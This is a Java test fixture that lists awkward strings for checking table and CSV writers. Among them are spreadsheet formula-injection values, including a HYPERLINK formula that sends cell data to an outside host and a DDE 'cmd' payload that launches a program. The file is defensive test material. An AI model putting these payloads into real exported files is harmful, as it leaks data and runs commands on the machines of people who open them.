package org.syncline.platform.table;

import java.util.List;

/** Texts that break careless writers of tables. */
final class NastyTexts {
  static final List<String> ALL =
      List.of(
          "",
          " ",
          "plain",
          "a,b;c\td",
          "say \"hi\"",
          "two\nlines",
          "two\r\nlines",
          "  spaces around  ",
          "=1+1",
          "+1",
          "-5",
          "@SUM(A1)",
          "\t=1",
          "\r=1",
          "\n=1",
          "  =1",
          "\"=1",
          "'=1",
          "''=1",
          "' \"=1",
          "\u200B=1",
          "\uFEFF=1",
          "\u00A0=1",
          "\uFF1D1",
          "\uFF0B1",
          "\uFF0D1",
          "\uFF201",
          "'plain",
          "1=1",
          "=HYPERLINK(\"http://example.org/?\"&A1,\"x\")",
          "=cmd|' /C calc'!A0",
          "<b>&amp;</b>",
          "]]>",
          "\u4F60\u597D \uD83D\uDE00",
          "_x000D_",
          "x_x0041_y",
          "ends in a comma,");

  private NastyTexts() {}
}
